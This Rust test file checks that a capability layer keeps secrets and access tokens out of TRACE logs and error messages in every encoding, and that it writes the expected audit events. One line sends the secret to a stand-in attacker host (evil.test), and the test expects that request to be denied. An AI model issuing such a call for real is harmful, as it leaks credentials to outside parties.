//! What a request leaves in logs at TRACE: one audit event, and of secrets nothing.

use std::io;
use std::sync::{Arc, Mutex};

use tracing::instrument::WithSubscriber;
use tracing_subscriber::fmt::MakeWriter;

use crate::capability::testing::{Fixture, Server, get, text};
use crate::capability::{Body, Level, Request, Value};

#[derive(Clone, Default)]
struct Sink(Arc<Mutex<Vec<u8>>>);

impl io::Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for Sink {
    type Writer = Self;

    fn make_writer(&'a self) -> Self {
        self.clone()
    }
}

impl Sink {
    fn text(&self) -> String {
        String::from_utf8(self.0.lock().unwrap().clone()).unwrap()
    }
}

const SECRET: &str = "hunter2+&\"secret";
const TOKEN: &str = "at-0123456789abcdef";

/// Every spelling in which the secret or the token might have been written.
fn spellings() -> Vec<String> {
    use crate::capability::Encoding;
    let mut found = Vec::new();
    for value in [SECRET, TOKEN] {
        for encoding in [
            Encoding::Raw,
            Encoding::Form,
            Encoding::Percent,
            Encoding::Json,
            Encoding::Base64Url,
            Encoding::Hex,
        ] {
            let spelled = encoding.encode(value.as_bytes()).unwrap();
            found.push(String::from_utf8(spelled.to_vec()).unwrap());
        }
    }
    found
}

#[tokio::test]
async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
    let body = format!("{{\"access_token\":\"{TOKEN}\"}}");
    let answer = format!(
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let server = Server::answering(answer).await;
    let closing = Server::answering("").await;
    let mut fixture = Fixture::reaching(&server);
    fixture.endpoints.push(closing.origin());
    fixture.secret("key", SECRET);
    let sink = Sink::default();
    // With one subscriber alone, tracing lets the thread that meets an event first decide for all whether it is wanted.
    let _second = tracing::Dispatch::new(tracing_subscriber::registry());
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(sink.clone())
        .with_ansi(false)
        .finish();
    let call = fixture.call();
    let failures = async {
        let secret = call.open("key").await.unwrap();
        let request = |server: &Server| Request {
            method: "POST".to_owned(),
            query: vec![("key".to_owned(), Value::Secret(secret.clone()))],
            headers: vec![
                ("X-Key".to_owned(), Value::Secret(secret.clone())),
                ("Authorization".to_owned(), text(SECRET)),
            ],
            body: Body::Form(vec![("key".to_owned(), Value::Secret(secret.clone()))]),
            ..get(server.url("/token"))
        };
        let response = call.send(request(&server)).await.unwrap();
        call.log(
            Level::Warn,
            &format!(
                "no {SECRET}, got {}",
                String::from_utf8_lossy(&response.body)
            ),
        );
        let lost = call.send(request(&closing)).await.unwrap_err();
        let named = call.open(SECRET).await.unwrap_err();
        let refused = call
            .send(get(format!("http://evil.test/?{SECRET}")))
            .await
            .unwrap_err();
        let shown = format!("{secret:?} {response:?} {:?} {call:?}", request(&server));
        format!("{lost:?} {named:?} {refused:?} {shown}")
    }
    .with_subscriber(subscriber)
    .await;
    let logged = sink.text();
    for spelling in spellings() {
        assert!(!logged.contains(&spelling), "{spelling} in {logged}");
        assert!(!failures.contains(&spelling), "{spelling} in {failures}");
    }
    assert!(
        logged.contains("TRACE") || logged.contains("DEBUG"),
        "{logged}"
    );
    let audits: Vec<_> = logged
        .lines()
        .filter(|line| line.contains("evertoken::audit"))
        .collect();
    assert_eq!(audits.len(), 3, "{logged}");
    for part in [
        "job=warehouse",
        "plugin=oauth2",
        "method=POST",
        &format!("origin={}", server.origin()),
        "path=\"/token\"",
        "status=200",
        &format!("bytes={}", body.len()),
        "duration_ms=",
    ] {
        assert!(audits[0].contains(part), "{part} in {}", audits[0]);
    }
    assert!(
        audits[1].contains("code=\"http.protocol\""),
        "{}",
        audits[1]
    );
    assert!(
        audits[2].contains("code=\"http.origin-denied\""),
        "{}",
        audits[2]
    );
}
